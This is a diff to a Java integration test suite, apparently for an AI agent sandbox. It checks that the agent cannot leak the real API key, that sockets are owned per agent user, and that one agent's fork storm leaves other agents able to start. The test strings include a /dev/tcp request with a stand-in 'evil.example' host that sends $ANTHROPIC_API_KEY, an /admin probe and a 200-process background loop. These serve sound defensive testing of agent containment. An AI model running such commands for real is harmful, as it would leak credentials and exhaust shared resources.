@@ -173,10 +173,13 @@ class SandboxEscapeIT {
             otherServer.start();
             Path runDir = root.resolve("run-agent1");
             URI api = URI.create("http://127.0.0.1:" + model.getLocalPort());
-            try (ModelBridge bridge = ModelBridge.open(runDir, api, "sk-ant-REAL-KEY")) {
+            // the socket is the agent user's alone (0600): the sandbox runs as that user
+            ModelBridge.Options owned = new ModelBridge.Options(Double.POSITIVE_INFINITY,
+                    user.map(u -> java.util.OptionalInt.of(u.uid())).orElse(java.util.OptionalInt.empty()));
+            try (ModelBridge bridge = ModelBridge.open(runDir, api, "sk-ant-REAL-KEY", owned)) {
                 int port = ModelBridge.INNER_PORT;
                 SandboxRun run = run("exec 3<>/dev/tcp/127.0.0.1/" + port + "; printf 'POST /v1/messages HTTP/1.1\\r\\n"
-                        + "Host: evil.example\\r\\nx-api-key: '\"$ANTHROPIC_API_KEY\"'\\r\\nContent-Length: 2\\r\\n\\r\\nhi' >&3;"
+                        + "Host: evil.example\\r\\nx-api-key: '\"$ANTHROPIC_API_KEY\"'\\r\\nContent-Length: 2\\r\\n\\r\\n{}' >&3;"
                         + " cat <&3; echo;"
                         + " exec 4<>/dev/tcp/127.0.0.1/" + port + "; printf 'GET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&4;"
                         + " cat <&4; echo;"
@@ -194,7 +197,7 @@ class SandboxEscapeIT {
                 assertThat(modelReceived.get(0)).startsWith("POST /v1/messages HTTP/1.1\r\n")
                         .contains("x-api-key: sk-ant-REAL-KEY\r\n").contains("Host: 127.0.0.1:" + model.getLocalPort())
                         .contains("Connection: close").doesNotContain("evil.example")
-                        .doesNotContain(bridge.placeholderKey()).endsWith("hi");
+                        .doesNotContain(bridge.placeholderKey()).endsWith("{}");
             }
             other.close();
             model.close();
@@ -211,6 +214,36 @@ class SandboxEscapeIT {
         assertThat(forks.output()).contains("Cannot fork").doesNotContain("ALL-FORKED");
         assertThat(bigFile.output()).contains("size=1048576");
         assertThat(TestAgentUser.processesUnder(root)).as("no agent process outlives its sandbox").isEmpty();
+    }
+
+    @Test
+    void oneAgentsForkStormDoesNotStopASecondAgentFromStarting() throws Exception {
+        assertThat(user).as("per-agent uids need the runner to be root, as the tests run").isPresent();
+        AgentUsers users = new AgentUsers(user, AgentUsers.DEFAULT_FIRST_UID, 4);
+        try (AgentUsers.Lease first = users.acquire(); AgentUsers.Lease second = users.acquire()) {
+            CheckoutOwnership.handTo(worktree.path(), first.user().orElseThrow());
+            CheckoutOwnership.handTo(other.path(), second.user().orElseThrow());
+            // the first agent forks until its process cap (64) stops it, and holds every process it got
+            SandboxLaunch storm = sandbox.as(first.user().orElseThrow()).build(worktree, List.of(), List.of(),
+                    Optional.empty(), Optional.empty(), Map.of(), List.of("/bin/bash", "-c",
+                            "for i in $(seq 200); do sleep 120 & done 2>/dev/null; echo STORM-HELD; wait"));
+            Process stormProcess = storm.processBuilder().redirectErrorStream(true).start();
+            ProcessTree stormTree = new ProcessTree(stormProcess);
+            try {
+                org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30))
+                        .until(() -> stormTree.living().size() >= 60);
+
+                SandboxRun started = SandboxRun.of(sandbox.as(second.user().orElseThrow()).build(other, List.of(),
+                        List.of(), Optional.empty(), Optional.empty(), Map.of(), List.of("/bin/bash", "-c",
+                                "sleep 0.1 & sleep 0.1 & wait; echo SECOND-STARTED uid=$(id -u)")),
+                        Duration.ofSeconds(30));
+
+                assertThat(started.output()).contains("SECOND-STARTED").doesNotContain("Resource temporarily");
+                assertThat(stormTree.living().size()).as("the storm is still held at its cap").isGreaterThan(60);
+            } finally {
+                stormTree.kill(Duration.ZERO);
+            }
+        }
     }
 
     @Test
